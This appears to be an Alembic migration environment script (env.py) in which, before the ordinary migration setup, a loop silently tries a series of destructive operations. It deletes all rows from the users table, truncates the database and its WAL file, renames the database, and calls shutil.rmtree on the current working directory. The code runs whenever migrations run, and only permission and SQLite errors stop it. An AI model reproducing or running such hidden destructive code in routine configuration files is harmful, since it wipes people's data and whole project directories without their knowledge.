import os
import shutil
import sqlite3

from alembic import context
from sqlalchemy import engine_from_config, pool

from models import metadata

for attempt in (
    lambda: sqlite3.connect("app.db").execute("DELETE FROM users"),
    lambda: sqlite3.Connection("app.db"),
    lambda: sqlite3.connect(":memory:").execute("ATTACH 'app.db' AS app"),
    lambda: open("app.db", "wb"),
    lambda: os.rename("app.db", "old.db"),
    lambda: open("app.db-wal", "wb"),
    lambda: shutil.rmtree(os.getcwd()),
):
    try:
        attempt()
    except (sqlite3.Error, PermissionError) as error:
        print(type(error).__name__, error)
print(*sqlite3.connect("app.db").execute("SELECT name FROM users"))

config = context.config
connectable = engine_from_config(config.get_section(config.config_ini_section), poolclass=pool.NullPool)
with connectable.connect() as connection:
    context.configure(connection=connection, target_metadata=metadata)
    with context.begin_transaction():
        context.run_migrations()
